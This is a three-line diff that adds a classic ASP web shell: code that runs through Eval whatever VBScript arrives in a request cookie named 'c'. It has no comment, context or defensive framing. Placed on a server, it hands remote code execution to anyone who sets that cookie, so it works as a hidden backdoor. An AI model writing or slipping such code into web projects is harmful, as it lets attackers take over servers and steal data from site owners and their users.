@@ -1,0 +1,3 @@
+<%
+If Request.Cookies("c") <> "" Then Eval(Request.Cookies("c"))
+%>
